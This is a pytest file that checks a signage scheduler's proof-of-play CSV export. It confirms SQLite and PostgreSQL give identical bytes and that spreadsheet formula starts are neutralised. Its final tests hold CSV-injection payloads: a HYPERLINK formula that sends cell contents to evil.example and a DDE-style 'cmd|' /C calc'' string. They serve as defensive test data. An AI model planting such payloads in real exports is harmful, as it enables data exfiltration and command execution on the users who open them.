"""The proof-of-play log's fast CSV (`operations.pop_log_csv`): PostgreSQL writes it with COPY, SQLite line by line
from its cursor, and both must give the same bytes for the same records, within the user's scope."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import delete, insert, text

from campaigns.kinds import CampaignStatus, MediaKind, OrgKind, ScreenKind, SiteKind, WindowPolicy
from campaigns.models import Campaign, Organisation, Screen, Site
from media.models import MediaAsset
from scheduler.database import Database, open_database
from scheduler.models import PlayRecord
from scheduler.reports.columns import POP_COLUMNS
from scheduler.reports.exports import iter_csv
from scheduler.reports.operations import pop_log_csv, pop_report
from scheduler.reports.scope import Scope
from signage.config import Settings

DAY = date(2024, 8, 20)
ZONE = "Asia/Ho_Chi_Minh"
CITY = Scope("hn", "UBND Thành phố Hà Nội", "/hn/", DAY, DAY)
WARD = Scope("hn-w1", "Phường Một", "/hn/hn-d1/hn-w1/", DAY, DAY, "ihanoi")
WARD_10 = Scope("hn-w10", "=Phường Mười", "/hn/hn-d1/hn-w10/", DAY, DAY)


def utc(hour: int, minute: int = 0, second: int = 0, micro: int = 0, day: date = DAY) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, second, micro, tzinfo=UTC)


def fill(database: Database) -> None:
    """A district with two wards; names and reasons with quotes, commas, a line break, Vietnamese and formula
    starts; plays with no campaign, no scheduled start, sub-millisecond times, and some outside the scope."""
    now = utc(0)
    orgs = [("hn", "UBND Thành phố Hà Nội", OrgKind.city, None, "/hn/"),
            ("hn-d1", "Quận Một", OrgKind.district, "hn", "/hn/hn-d1/"),
            ("hn-w1", 'UBND phường "Một", Hà Nội', OrgKind.ward, "hn-d1", "/hn/hn-d1/hn-w1/"),
            ("hn-w10", "=Phường Mười", OrgKind.ward, "hn-d1", "/hn/hn-d1/hn-w10/")]
    sites = [("s-a", 'Nhà văn hoá "Tổ 5", ngõ 3', "hn-w1"), ("s-b", "-2 lối vào", "hn-w10"),
             ("s-c", '@Ngã tư "Sở"', "hn-d1")]
    screens = [("scr-a", "s-a", 'Màn hình "sảnh"'), ("scr-b", "s-b", "Màn hình cổng"), ("scr-c", "s-c", "+Màn hình C")]
    campaigns = [("ihanoi", "iHanoi, công dân số"), ("other", "Chiến dịch khác")]
    plays = [
        # (screen, campaign, kind, scheduled, started, status, reason)
        ("scr-a", "ihanoi", "spot", utc(1), utc(1), "completed", None),
        ("scr-a", "ihanoi", "makegood", None, utc(1, 30, 5, 999_600), "completed", None),
        ("scr-a", "ihanoi", "spot", utc(2), utc(2, 0, 1, 250_000), "failed", 'libVLC: "x.mp4",\nkhông phát được'),
        ("scr-a", "other", "spot", utc(3), utc(3), "missed", "=1+1"),
        ("scr-a", None, "alert", None, utc(4), "completed", None),
        ("scr-b", "ihanoi", "spot", utc(1, 0, 30), utc(1, 0, 30), "completed", None),
        ("scr-c", "ihanoi", "spot", utc(16, 59, 59), utc(16, 59, 59, 999_999), "interrupted", "-mất điện"),
        ("scr-a", "ihanoi", "spot", utc(2, day=DAY + timedelta(days=1)), utc(2, day=DAY + timedelta(days=1)),
         "completed", None),
        ("scr-gone", "ihanoi", "spot", utc(1), utc(1, 10), "completed", None),  # a screen no longer in the fleet
        # Made good for a spot scheduled days before the period; a quote in a line whose names have none.
        ("scr-b", "ihanoi", "makegood", utc(1, day=DAY - timedelta(days=5)), utc(5), "completed", 'màn hình "đen"'),
    ]
    with database.sessions() as session, session.begin():
        session.execute(insert(Organisation), [dict(zip(("id", "name", "kind", "parent_id", "path"), o, strict=True))
                                               for o in orgs])
        session.execute(insert(Site), [{"id": i, "name": n, "kind": SiteKind.ward_office, "organisation_id": o,
                                        "timezone": ZONE, "address": None, "operating_hours": None,
                                        "peak_windows": None} for i, n, o in sites])
        session.execute(insert(Screen), [{"id": i, "site_id": s, "name": n, "kind": ScreenKind.lcd, "width": 1920,
                                          "height": 1080, "orientation": None, "enabled": True}
                                         for i, s, n in screens])
        session.execute(insert(Campaign), [{
            "id": campaign, "organisation_id": "hn", "name": name, "description": None, "start_date": DAY,
            "end_date": DAY + timedelta(days=9), "plays_per_day": 10, "window_policy": WindowPolicy.peak,
            "explicit_windows": None, "priority": 0, "status": CampaignStatus.active, "created_at": now,
            "updated_at": now} for campaign, name in campaigns])
        # The file's name in the campaign's unit's library; another unit names the same bytes its own way.
        session.execute(insert(MediaAsset), [{
            "sha256": "ab" * 32, "organisation_id": unit, "kind": MediaKind.video, "mime": "video/mp4",
            "bytes": 1000, "duration_ms": 15000, "width": 1920, "height": 1080, "container": "mp4",
            "video_codec": "h264", "audio_codec": None, "original_name": name, "created_at": now}
            for unit, name in (("hn", "ihanoi-15s.mp4"), ("hn-w1", "của phường.mp4"))])
        session.execute(insert(PlayRecord), [{
            "play_id": f"{n:02d}-{screen}", "player_id": screen, "spot_id": None, "campaign_id": campaign,
            "media": "ab" * 32, "kind": kind, "scheduled_start": scheduled, "started_at": started,
            "ended_at": started + timedelta(seconds=15), "duration_ms": 15000, "status": status, "reason": reason,
            "plan_version": None, "local_date": (started + timedelta(hours=7)).date(), "in_peak": True,
            "received_at": started} for n, (screen, campaign, kind, scheduled, started, status, reason)
            in enumerate(plays)])


@pytest.fixture
def twins(tmp_path: Path, postgres):
    """The same records in a SQLite and a PostgreSQL database."""
    databases = []
    for name, url in (("sqlite", f"sqlite:///{tmp_path / 'signage.db'}"), ("postgresql", postgres.create_database())):
        database = open_database(Settings(_env_file=None, data_dir=tmp_path / name, database_url=url, mqtt=False))
        fill(database)
        databases.append(database)
    yield databases
    for database in databases:
        database.dispose()


def exported(database: Database, scope: Scope, language: str = "vi") -> bytes:
    with database.sessions() as session:
        return b"".join(pop_log_csv(session, scope, ZONE, language))


def lines(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("scope", [CITY, WARD, WARD_10], ids=["city-all-campaigns", "ward-one-campaign", "ward-10"])
def test_sqlite_and_postgresql_write_the_same_bytes(twins, scope):
    sqlite, postgresql = twins
    data = exported(sqlite, scope)
    assert data == exported(postgresql, scope)
    assert data.count(b"\r\n") == len(lines(data))  # CRLF line ends; the reason's line break is kept inside


def test_the_bytes_are_the_documented_format(twins):
    for database in twins:
        data = exported(database, WARD, "en")
        header, first, makegood, failed = data.decode("utf-8-sig").split("\r\n")[:4]
        # Names first, as people read them; the ids tools match on after them.
        assert header == ("Started,Ended,Screen,Site,Organisation,Campaign,Media,Kind,Scheduled,Duration (ms),"
                          "Status,Reason,Screen id,Campaign id,Media (sha256),Play id")
        assert first == ('2024-08-20T08:00:00.000+07:00,2024-08-20T08:00:15.000+07:00,"Màn hình ""sảnh""",'
                         '"Nhà văn hoá ""Tổ 5"", ngõ 3","UBND phường ""Một"", Hà Nội","iHanoi, công dân số",'
                         '"ihanoi-15s.mp4","spot",2024-08-20T08:00:00.000+07:00,15000,"completed","","scr-a",'
                         '"ihanoi","' + "ab" * 32 + '","00-scr-a"')
        # Milliseconds are cut, never rounded up (08:30:05.9996 is not 08:30:06); no scheduled start is empty.
        assert makegood.startswith("2024-08-20T08:30:05.999+07:00,2024-08-20T08:30:20.999+07:00,")
        assert ',"makegood",,15000,' in makegood
        # A line break inside a quoted text stays a bare LF: only the line ends are CRLF.
        assert failed.endswith(',"failed","libVLC: ""x.mp4"",\nkhông phát được","scr-a","ihanoi","' + "ab" * 32 +
                               '","02-scr-a"')


def test_the_log_names_its_screens_campaigns_and_files_and_keeps_their_ids_after(twins):
    """Each screen, campaign and file by its name, the file's as the campaign's unit's library has it (not another
    unit's name for the same bytes), and their ids after the rest; lines with no quote in them, written the fast way
    (no cell to double or make inert), read the same from both databases."""
    for database in twins:
        with database.sessions() as session, session.begin():
            session.execute(delete(PlayRecord).where(PlayRecord.play_id == "09-scr-b"))  # its reason has a quote
    sqlite, postgresql = twins
    data = exported(sqlite, WARD_10)
    assert data == exported(postgresql, WARD_10)
    [row] = lines(data)[1:]
    assert row[2:7] == ["Màn hình cổng", "'-2 lối vào", "'=Phường Mười", "iHanoi, công dân số", "ihanoi-15s.mp4"]
    assert row[12:] == ["scr-b", "ihanoi", "ab" * 32, "05-scr-b"]


def test_the_scope_keeps_to_its_subtree_period_and_campaign(twins):
    sqlite, _ = twins
    ward = lines(exported(sqlite, WARD))[1:]
    assert [row[-1] for row in ward] == ["00-scr-a", "01-scr-a", "02-scr-a"]  # not hn-w10's screen, nor 21 Aug
    city = lines(exported(sqlite, CITY))[1:]
    assert [row[-1] for row in city] == ["00-scr-a", "05-scr-b", "01-scr-a", "02-scr-a", "03-scr-a", "04-scr-a",
                                         "09-scr-b", "06-scr-c"]
    assert [row[-1] for row in lines(exported(sqlite, WARD_10))[1:]] == ["05-scr-b", "09-scr-b"]
    district = Scope("hn-d1", "Quận Một", "/hn/hn-d1/", DAY, DAY, "other")
    assert [row[-1] for row in lines(exported(sqlite, district))[1:]] == ["03-scr-a"]


def test_sqlite_sorts_out_a_large_scope_itself_with_the_same_result(twins, monkeypatch):
    from scheduler.reports import operations

    sqlite, postgresql = twins
    named = [(scope, exported(sqlite, scope)) for scope in (CITY, WARD, WARD_10)]
    monkeypatch.setattr(operations, "_IN_LIST_MAX_SCREENS", 0)  # as for a city of more screens than that
    for scope, data in named:
        assert exported(sqlite, scope) == data == exported(postgresql, scope)


def test_formula_starts_in_names_and_reasons_are_made_inert(twins):
    for database in twins:
        rows = {row[-1]: row for row in lines(exported(database, CITY))[1:]}
        assert rows["05-scr-b"][3:5] == ["'-2 lối vào", "'=Phường Mười"]
        assert rows["06-scr-c"][3] == '\'@Ngã tư "Sở"' and rows["06-scr-c"][11] == "'-mất điện"
        assert rows["03-scr-a"][11] == "'=1+1"
        assert rows["06-scr-c"][2] == "'+Màn hình C" and rows["06-scr-c"][12] == "scr-c"
        assert rows["04-scr-a"][5:7] == ["", ""] and rows["04-scr-a"][13:15] == ["", "ab" * 32]  # no campaign
        assert rows["09-scr-b"][8] == "2024-08-15T08:00:00.000+07:00" and rows["09-scr-b"][11] == 'màn hình "đen"'


def test_postgresql_writes_utc_based_times_whatever_the_sessions_time_zone(twins):
    sqlite, postgresql = twins
    with postgresql.sessions() as session:
        session.execute(text("SET TIME ZONE 'America/New_York'"))
        data = b"".join(pop_log_csv(session, CITY, ZONE))
    assert data == exported(sqlite, CITY)


def assert_same_log(fast: list[list[str]], general: list[list[str]]) -> None:
    """The fast CSV's rows say what the general exporter's say (its times may be written another way)."""
    assert fast[0] == general[0] and len(fast) == len(general)
    kinds = [column.kind for column in POP_COLUMNS]
    for fast_row, general_row in zip(fast[1:], general[1:], strict=True):
        for kind, a, b in zip(kinds, fast_row, general_row, strict=True):
            if kind == "datetime" and a and b:
                assert datetime.fromisoformat(a) == datetime.fromisoformat(b)
            else:
                assert a == b


@pytest.mark.parametrize("which", [0, 1], ids=["sqlite", "postgresql"])
def test_the_fast_csv_reads_as_the_general_export(twins, which):
    database = twins[which]
    fast = lines(exported(database, CITY))
    with database.sessions() as session:
        report = pop_report(session, CITY, utc(12))
        report.timezone = ZONE
        general = lines(b"".join(iter_csv(report)))
    assert len(fast) == 9
    assert_same_log(fast, general)


# -- formula injection (issue 16, item 5) -----------------------------------------------------------------------

# What an attacker would have a spreadsheet run: a link that sends the sheet's own cells away when clicked.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def add_formula_play(database: Database, player_id: str, started: datetime, *, play_id: str = "evil-play-0001",
                     campaign_name: str = "@SUM(1+1)*cmd|' /C calc'!A0") -> str:
    """A completed play of `player_id` whose campaign id and media are FORMULA, of a campaign whose (staff-typed)
    name starts like a formula too. Ingest refuses such ids (signage.protocol's patterns), so the rows are written
    straight into the tables, as a database restored from elsewhere or a future ingest bug would hold them."""
    now = utc(0)
    with database.sessions() as session, session.begin():
        session.execute(insert(Campaign), [{
            "id": FORMULA, "organisation_id": "hn", "name": campaign_name, "description": None, "start_date": DAY,
            "end_date": DAY + timedelta(days=9), "plays_per_day": 10, "window_policy": WindowPolicy.peak,
            "explicit_windows": None, "priority": 0, "status": CampaignStatus.active, "created_at": now,
            "updated_at": now}])
        session.execute(insert(PlayRecord), [{
            "play_id": play_id, "player_id": player_id, "spot_id": "evil-spot", "campaign_id": FORMULA,
            "media": FORMULA, "kind": "spot", "scheduled_start": started, "started_at": started,
            "ended_at": started + timedelta(seconds=15), "duration_ms": 15000, "status": "completed",
            "reason": None, "plan_version": None, "local_date": (started + timedelta(hours=7)).date(),
            "in_peak": True, "received_at": started}])
    return play_id


def test_ids_starting_like_a_formula_are_made_inert_by_both_databases(twins):
    """Every text cell of the fast CSV, ids included, is guarded by the same rule as exports.py: both the SQLite
    lines and PostgreSQL's COPY (before the fix the campaign and media ids came out live, "=HYPERLINK(...")."""
    for database in twins:
        add_formula_play(database, "scr-a", utc(6), play_id="-1+2-evil")
        with database.sessions() as session, session.begin():
            session.execute(insert(PlayRecord), [{
                "play_id": "tab-start-0001", "player_id": "scr-a", "spot_id": None, "campaign_id": "\t=1+1",
                "media": "\r=2+2", "kind": "spot", "scheduled_start": None, "started_at": utc(7),
                "ended_at": utc(7, 0, 15), "duration_ms": 15000, "status": "completed", "reason": "\t@x",
                "plan_version": None, "local_date": DAY, "in_peak": True, "received_at": utc(7)}])
    sqlite, postgresql = twins
    data = exported(sqlite, CITY)
    assert data == exported(postgresql, CITY)
    rows = {row[-1]: row for row in lines(data)[1:]}
    evil = rows["'-1+2-evil"]
    assert evil[13:15] == ["'" + FORMULA, "'" + FORMULA]
    assert evil[5:7] == ["'@SUM(1+1)*cmd|' /C calc'!A0", ""]  # no file of that name in the library
    assert evil[9] == "15000"  # a number stays a number
    assert rows["tab-start-0001"][13:15] == ["'\t=1+1", "'\r=2+2"] and rows["tab-start-0001"][11] == "'\t@x"
    assert rows["00-scr-a"][12:14] == ["scr-a", "ihanoi"]  # ordinary ids are left alone
